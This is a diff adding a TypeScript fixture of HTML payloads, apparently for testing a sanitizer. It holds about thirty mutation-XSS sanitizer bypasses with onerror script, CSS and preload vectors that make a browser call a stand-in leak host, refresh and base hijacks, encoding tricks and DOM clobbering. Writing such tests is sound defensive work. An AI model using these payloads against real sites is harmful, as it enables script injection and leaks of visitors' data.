@@ -1,0 +1,36 @@
+const code = 'top.__pwned=1';
+const url = 'http://second.leak.test/p';
+
+/** Letters of a second look: families that got by a cleaner somewhere, and addresses that a browser asks for before anybody presses a thing. */
+export const secondLook: Readonly<Record<string, string>> = {
+  'a table that throws a form out of a math style': `<math><mtext><table><form><mglyph><style><!--</style><img title="--&gt;<img src=x onerror=${code}>">`,
+  'a heading that ends in foreign text': `<svg><desc><h1><svg><style><a title="</style><img src=x onerror=${code}>"></a></style></svg></h1></desc></svg>`,
+  'nested anchors through a table in foreign content': `<math><mi><a><table><a><style><img title="</style><img src=x onerror=${code}>"></style>`,
+  'a deep stack that is flattened': `${'<span>'.repeat(511)}<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
+  'a comment that ends in an attribute of foreign content': `<svg><!--<style>--><a title="--></style><img src=x onerror=${code}>"></a></svg>`,
+  'a processing instruction in foreign content': `<svg><?xml-stylesheet href="${url}"?><style><?></style><img src=x onerror=${code}>`,
+  'a doctype in foreign content': `<math><!DOCTYPE x SYSTEM "${url}" [<!ENTITY e SYSTEM "${url}">]>&e;<mi><img src=x onerror=${code}></mi></math>`,
+  'an integration point in capitals': `<SVG><FOREIGNOBJECT><P><SVG><STYLE><A TITLE="</STYLE><IMG SRC=X ONERROR=${code}>"></STYLE></SVG></P></FOREIGNOBJECT></SVG>`,
+  'a select that holds others': `<select><selectedcontent><option><img src="${url}" onerror=${code}></option></selectedcontent><button><svg onload=${code}></svg></button></select>`,
+  'a shadow tree that is declared': `<div><template shadowrootmode=open shadowrootclonable shadowrootserializable><style>:host{background:url(${url})}</style><img src="${url}"></template></div>`,
+  'a template in a template in foreign content': `<svg><template><style><img title="</style><img src=x onerror=${code}>"></template></svg>`,
+  'an element that patches another': `<template patchsrc="${url}" for=x></template><div id=x></div><template contentmethod=replace><img src="${url}"></template>`,
+  'refresh in every spelling': `<meta http-equiv=refresh content="0;url=${url}"><meta http-equiv="REFRESH" content="0,${url}"><META HTTP-EQUIV="&#114;efresh" content="0; URL='${url}'">`,
+  'hints to fetch ahead': `<link rel="modulepreload" href="${url}"><link rel="compression-dictionary" href="${url}"><link rel="expect" href="#x" blocking=render><link rel="manifest" href="${url}"><link rel="preload" as=image imagesrcset="${url} 1x" imagesizes=1px>`,
+  'rules of what is fetched ahead': `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}"]}],"prerender":[{"urls":["${url}"]}]}</script><script type=importmap>{"imports":{"a":"${url}"}}</script>`,
+  'a link that tells of its press': `<a href="https://a.example/" ping="${url}" attributionsrc="${url}" download target=_self rel=opener>x</a><img attributionsrc="${url}" src="data:image/png;base64,AA==">`,
+  'frames by other names': `<portal src="${url}"></portal><fencedframe mode=opaque-ads src="${url}"></fencedframe><controlledframe src="${url}"></controlledframe><webview src="${url}"></webview><permission type=geolocation>`,
+  'pictures of foreign content': `<svg><filter id=f><feImage href="${url}" xlink:href="${url}"/></filter><pattern id=p><image href="${url}"/></pattern><use href="${url}#x"/><rect fill="url(${url}#p)" filter="url(${url}#f)" width=9 height=9 /></svg>`,
+  'animation that sets an address': `<svg><image><set attributeName=href to="${url}"/><animate attributeName=href values="${url};${url}"/></image><a><animate attributeName=href to="javascript:${code}"/><text>x</text></a></svg>`,
+  'pictures of formulas': `<math><mglyph src="${url}"></mglyph><mi mathbackground="url(${url})" href="javascript:${code}">x</mi><mpadded style="background:url(${url})">y</mpadded></math>`,
+  'addresses of style in pieces': `<style>@im\\70ort '${url}';@import url(${url}) layer(a) supports(display:block) screen;@font-face{font-family:a;src:u\\72l(${url})}p{font-family:a;background:-webkit-image-set("${url}" 1x);background:image-set("${url}" 1x,url(${url}) 2x);background:cross-fade(url(${url}),red)}</style><p>x`,
+  'addresses of style through variables': `<style>@property --u{syntax:"<url>";inherits:true;initial-value:url(${url})}:root{--u:url(${url});--v:"${url}"}p{background:var(--u);background-image:image-set(var(--v) 1x);content:var(--u)}</style><p style="--w:url(${url});list-style:var(--w)">x`,
+  'addresses of style that look at values': `<style>@supports(background:url(${url})){p{background:url(${url})}}@container style(--a:url(${url})){p{color:red}}@namespace "${url}";@document url(${url}){p{color:red}}@-moz-document url-prefix(""){p{background:url(${url})}}p{background:src("${url}");background:attr(title type(<url>));shape-outside:url(${url});offset-path:url(${url}#x);clip-path:url(${url}#y)}</style><p title="${url}">x`,
+  'a style that nests and ends early': `<style>p{&:hover{}background:url(${url});@media all{&{background:url(${url})}}@scope(p){:scope{cursor:url(${url}),auto}}}}p{background:url("${url}\n}*{background:url(${url})}</style><p>x`,
+  'an encoding of its own': `<meta http-equiv=content-type content="text/html; charset=utf-16le"><meta charset=iso-2022-jp>\u001b(J\\<img src=x onerror=${code}>\u001b$B\u001b(B+ADw-img src=x onerror=${code}+AD4-`,
+  'surrogates that stand alone': `<img src=x o\ud800nerror=${code}><\udfffimg src=x onerror=${code}><a href="java\ud83dscript:${code}">x</a>`,
+  'a base that moves all others': `<base href="${url}/" target=_top><base href="javascript:${code}//"><img src=x.png><a href=y>y</a><form action=z><input type=image src=w></form>`,
+  'elements that show others': `<div popover=auto id=q style="display:block;position:fixed;inset:0">x</div><button popovertarget=q popovertargetaction=show commandfor=q command=show-popover interestfor=q autofocus>y</button>`,
+  'a film and its words': `<video poster="${url}" src="${url}" autoplay muted playsinline><track default kind=metadata src="${url}"></video><model src="${url}"></model><audio src="${url}" preload=auto></audio>`,
+  'names that hide those of the page': `<form name=documentElement><input name=dataset></form><form id=generation><input name=style><input name=classList></form><img name=defaultView><img name=readyState><a id=head></a><a id=scrollingElement></a>`,
+};
